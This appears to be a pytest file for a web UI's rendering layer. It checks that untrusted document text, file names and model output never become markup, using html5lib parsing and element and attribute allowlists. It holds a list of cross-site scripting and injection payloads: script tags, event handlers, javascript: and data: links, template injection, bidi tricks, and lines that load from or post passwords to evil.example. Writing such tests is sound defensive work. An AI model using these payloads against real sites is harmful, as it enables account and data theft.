"""Nothing that a document, a question, a file name or a model says becomes markup, in any view."""

import re
from collections.abc import Iterator
from pathlib import Path
from xml.etree.ElementTree import Element

import html5lib
import pytest
from page_samples import every_view

from ui.rendering.formats import visible
from ui.rendering.templates import UI_DIR

PAYLOADS = {
    "script": "<script>alert(1)</script>",
    "script_in_capitals": "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "script_in_full_width": "＜script＞alert(1)＜/script＞",
    "image_handler": "<img src=x onerror=alert(1)>",
    "image_without_blanks": "<img/src=x/onerror=alert(1)>",
    "svg_handler": "<svg/onload=alert(1)><animate onbegin=alert(1) attributeName=x>",
    "math_namespace": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "iframe": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "form": '<form action="https://evil.example"><input name=password><button formaction=javascript:alert(1)>',
    "style": "<style>@import '//evil.example/x.css';</style><p style=background:url(//evil.example)>",
    "meta": '<meta http-equiv=refresh content="0;url=https://evil.example"><base href=//evil.example>',
    "closes_textarea": "</textarea></title></style></script><script>alert(1)</script>",
    "closes_everything": "</p></div></li></article></section></table><script>alert(1)</script>",
    "comment": "<!--><script>alert(1)</script>--><![CDATA[<script>alert(1)</script>]]>",
    "double_quote": '" onmouseover="alert(1)" autofocus onfocus="alert(1)',
    "single_quote": "' onmouseover='alert(1)",
    "backtick_quote": "` onmouseover=`alert(1)",
    "closes_the_tag": '"><img src=x onerror=alert(1)>',
    "entities": "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;",
    "entities_twice": "&amp;lt;script&amp;gt;alert(1)",
    "template_literal": "${7*7} ${alert(1)} `${7*7}`",
    "mustache": "{{7*7}} {{constructor.constructor('alert(1)')()}} {% raw %} {# x #}",
    "format_fields": "{0.__class__} {name} %s %(x)s",
    "link_javascript": "[a](javascript:alert(1))",
    "link_mixed_case": "[a](JaVaScRiPt:alert(1)) [b](\x01javascript:alert(1)) [c](java\tscript:alert(1))",
    "link_entities": "[a](&#106;avascript:alert(1)) [b](javascript&colon;alert(1)) [c](&#x6A&#x61vascript:alert(1))",
    "link_encoded": "[a](javascript%3Aalert(1)) [b](%6aavascript:alert(1))",
    "link_in_angles": "[a](<javascript:alert(1)>) <javascript:alert(1)> <vbscript:x> <file:///etc/passwd>",
    "link_data": "[a](data:text/html;base64,PHNjcmlwdD4=) ![b](data:image/svg+xml,<svg/onload=alert(1)>)",
    "link_vbscript": "[a](vbscript:msgbox) [b](file:///etc/passwd) [c](blob:x) [d](view-source:x)",
    "link_relative": "[a](/logout) [b](//evil.example) [c](\\\\evil.example) [d](#x) [e](?x)",
    "link_breaks_out": '[a](https://x.example/"onmouseover="alert(1)) [b](https://x.example "t" onclick=x")',
    "links_nested": "[a [b](https://x.example) c](javascript:alert(1)) [![x](y)](javascript:alert(1))",
    "link_reference": "[1]\n\n[1]: javascript:alert(1)\n[2]: https://evil.example",
    "image": "![x](https://evil.example/pixel.png) ![y][z]",
    "fence_info": '```"><script>alert(1)</script>\ncode\n```',
    "table": "| <script> | [a](javascript:x) |\n|---|---|\n| <img src=x onerror=y> | `<b>` |",
    "heading": "# <script>alert(1)</script>\n> <img src=x onerror=alert(1)>\n- <svg onload=alert(1)>",
    "bidi": "report\u202efdp.exe \u2066x\u2067y\u2069 \u200fz",
    "null_and_controls": "a\x00b\x08c\x1bd\x7fe\x9ff <scr\x00ipt>alert(1)</scr\x00ipt>",
    "half_characters": "\ud83d x \udc00",
    "long_word": "很" * 3000 + "x" * 3000,
    "cited": "[1] [2] [3] ［1］ 【2】 [1](javascript:alert(1)) `[1]` [<b>1</b>]",
}
ELEMENTS = {"a", "article", "b", "bdi", "blockquote", "br", "button", "code", "dd", "del", "details", "div", "dl"}
ELEMENTS |= {"dt", "em", "figcaption", "figure", "h3", "h4", "h5", "h6", "header", "hr", "input", "label", "li"}
ELEMENTS |= {"mark", "meter", "nav", "ol", "output", "p", "pre", "progress", "s", "section", "span", "strong"}
ELEMENTS |= {"summary", "table", "tbody", "td", "th", "thead", "tr", "ul"}
DRAWN = {"svg", "title", "g", "line", "polyline", "path", "text"}
ATTRIBUTES = {"checked", "class", "dir", "download", "href", "id", "max", "min", "rel", "role", "scope", "start"}
ATTRIBUTES |= {"step", "tabindex", "target", "title", "type", "value", "height", "width", "viewBox", "x", "x1", "x2"}
ATTRIBUTES |= {"y", "y1", "y2", "points", "d", "fill", "stroke", "stroke-linejoin", "transform"}
SUFFIXES = {"action", "changes", "chunk", "confirm", "conversation", "document", "enabled", "exchange", "job", "kb"}
SUFFIXES |= {"kind", "label", "model", "n", "prompt", "rating", "relevance", "right", "table", "text", "then"}
SUFFIXES |= {"threshold", "value"}
ADDRESS = re.compile(r"(?:https?://|mailto:|/originals\?)")
HTML, SVG = "{http://www.w3.org/1999/xhtml}", "{http://www.w3.org/2000/svg}"

each_payload = pytest.mark.parametrize("payload", PAYLOADS.values(), ids=PAYLOADS)


def parsed(html: str) -> Element:
    """Return what a browser makes of a view."""
    parser = html5lib.HTMLParser(tree=html5lib.getTreeBuilder("etree"))
    return parser.parseFragment(html.replace("\0", "\ufffd"), container="div")


def elements(html: str) -> Iterator[Element]:
    yield from list(parsed(html).iter())[1:]


def strangers(html: str) -> Iterator[str]:
    """Yield each element, attribute and address that no view may hold."""
    for element in elements(html):
        if not isinstance(element.tag, str):
            yield "a comment"
            continue
        if element.tag.removeprefix(HTML) not in ELEMENTS and element.tag.removeprefix(SVG) not in DRAWN:
            yield element.tag
        for name, value in element.attrib.items():
            is_known = name in ATTRIBUTES or name.startswith("aria-") or name.removeprefix("data-") in SUFFIXES
            if not is_known or (name == "href" and not ADDRESS.match(value)):
                yield f"{element.tag} {name}={value}"


def skeleton(html: str) -> list[tuple[str, ...]]:
    """Return a view's elements with the names of their attributes, and their classes."""
    return [(str(one.tag), one.get("class", ""), *sorted(one.attrib)) for one in elements(html)]


def harmless(payload: str) -> str:
    """Return a text of the same lengths and lines."""
    return "".join(one if one.isspace() else "x" for one in payload)


@each_payload
def test_no_view_gets_an_element_attribute_or_address_that_is_not_its_own(payload: str) -> None:
    for name, html in every_view(payload, "zh").items():
        assert list(strangers(html)) == [], name


@each_payload
def test_data_changes_nothing_in_the_structure_of_a_view(payload: str) -> None:
    plain = every_view(harmless(payload), "en")
    for name, html in every_view(payload, "en").items():
        if not name.startswith("exchange"):  # there, Markdown and [n] mean something
            assert skeleton(html) == skeleton(plain[name]), name


@each_payload
def test_a_name_is_shown_as_it_is_and_handed_back_exactly(payload: str) -> None:
    browsers = payload.replace("\0", "\ufffd").encode("utf-8", "replace").decode()
    files = list(elements(every_view(payload.encode("utf-8", "replace").decode(), "zh")["files"]))
    shown = next(one for one in files if one.tag == f"{HTML}bdi")
    box = next(one for one in files if one.tag == f"{HTML}input" and one.get("value") is not None)
    assert shown.text == visible(browsers)
    assert box.get("value") == browsers


@pytest.mark.parametrize("payload", ["bidi", "null_and_controls", "half_characters"])
def test_no_view_shows_characters_that_hide_or_reorder_others(payload: str) -> None:
    for name, html in every_view(PAYLOADS[payload], "zh").items():
        shown = "".join(parsed(html).itertext())
        assert not re.search("[\x00-\x08\x0e-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\ud800-\udfff]", shown), name


def test_the_test_sees_what_would_be_wrong() -> None:
    html = '<p onclick="x"><script></script><a href="javascript:x"></a><img src="x"></p><!-- x -->'
    assert len(list(strangers(html))) == 6


def test_templates_escape_and_hold_no_words() -> None:
    for path in sorted((UI_DIR / "templates").glob("*.html")):
        text = path.read_text("utf-8")
        assert "|safe" not in text.replace(" ", ""), path.name
        assert "autoescape" not in text, path.name
        assert not re.search("[\u4e00-\u9fff]", text), path.name


def test_styles_and_templates_load_nothing_from_elsewhere() -> None:
    for path in [*(UI_DIR / "templates").glob("*.html"), Path(UI_DIR / "assets" / "views.css")]:
        assert not re.search(r"https?:|url\(|@import|src=[\"']//", path.read_text("utf-8")), path.name
